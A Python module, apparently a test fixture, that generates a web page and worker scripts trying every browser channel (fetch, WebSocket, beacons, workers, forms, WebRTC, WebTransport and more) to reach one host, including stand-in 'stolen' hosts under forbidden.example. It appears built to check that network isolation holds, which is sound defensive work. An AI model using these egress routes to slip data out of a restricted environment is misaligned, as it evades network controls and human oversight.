"""A page that tries every way out that a page has, towards one place."""

WORKER = """onmessage = async (event) => { const to = event.data;
  try { await fetch(to + '/worker-fetch', {mode: 'no-cors'}) } catch {}
  try { new WebSocket(to.replace('http', 'ws') + '/worker-ws') } catch {}
  try { importScripts(to + '/worker-import.js') } catch {} }"""
SHARED = """onconnect = (event) => { fetch('TO/shared-worker', {mode: 'no-cors'}).catch(() => 0) }"""
SERVICE = """self.oninstall = (event) =>
  event.waitUntil(fetch('TO/service-worker', {mode: 'no-cors'}).catch(() => 0))"""

PAGE = """<title>Ways</title><link rel=dns-prefetch href=//prefetched.forbidden.example><link rel=preconnect href=TO>
<link rel=prefetch href=TO/prefetch><link rel=stylesheet href=TO/style.css><link rel=icon href=TO/icon.png>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["TO/speculated"]}]}</script>
<img src=TO/img><img src=/redirect><iframe src=TO/frame></iframe><iframe src=/frame-redirect></iframe>
<video src=TO/video></video><object data=TO/object></object><form id=f action=TO/form target=sink method=post>
<input name=a value=b></form><iframe name=sink></iframe><a id=p href=#x ping=TO/ping>ping</a><a id=d href=TO/download
download>down</a><div style="background:url(TO/background)">words</div><script>
const to = 'TO', done = [];
const way = (name, go) => {
  try { const made = go(); if (made && made.catch) made.catch(() => 0); done.push(name) } catch (e) {} };
way('fetch', () => fetch(to + '/fetch', {mode: 'no-cors'}));
way('secret name', () => fetch('http://stolen-words.forbidden.example:PORT/', {mode: 'no-cors'}));
way('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', to + '/xhr'); x.send() });
way('ws', () => new WebSocket(to.replace('http', 'ws') + '/ws'));
way('events', () => new EventSource(to + '/events'));
way('beacon', () => navigator.sendBeacon(to + '/beacon', 'words'));
way('script', () => { const s = document.createElement('script'); s.src = to + '/script.js'; document.head.append(s) });
way('worker', () => new Worker('/worker.js').postMessage(to));
way('blob worker', () => new Worker(URL.createObjectURL(new Blob(
  ["fetch('" + to + "/blob-worker', {mode: 'no-cors'})"]))));
way('shared worker', () => new SharedWorker('/shared.js'));
way('service worker', () => navigator.serviceWorker.register('/service.js'));
way('form', () => f.submit());
way('ping', () => p.click());
way('download', () => d.click());
way('popup', () => window.open(to + '/popup'));
way('rtc', () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST:UDP'},
  {urls: 'stun:stolen.forbidden.example:UDP'},
  {urls: 'turn:HOST:PORT?transport=tcp', username: 'a', credential: 'b'}]});
  c.createDataChannel('x'); return c.createOffer().then((offer) => c.setLocalDescription(offer)) });
way('transport', () => new WebTransport('https://HOST:UDP/transport').ready);
</script>"""


def ways_out(host: str, port: int, udp: int) -> dict[str, str]:
    """Pages by their paths; `/` tries to reach `host`, by TCP at `port` and by UDP at `udp`."""
    to = f"http://{host}:{port}"

    def filled(text: str) -> str:
        return text.replace("HOST", host).replace("PORT", str(port)).replace("UDP", str(udp)).replace("TO", to)

    return {
        "/": filled(PAGE),
        "/worker.js": WORKER,
        "/shared.js": filled(SHARED),
        "/service.js": filled(SERVICE),
        "/redirect": f"→{to}/redirected-img",
        "/frame-redirect": f"→{to}/redirected-frame",
    }
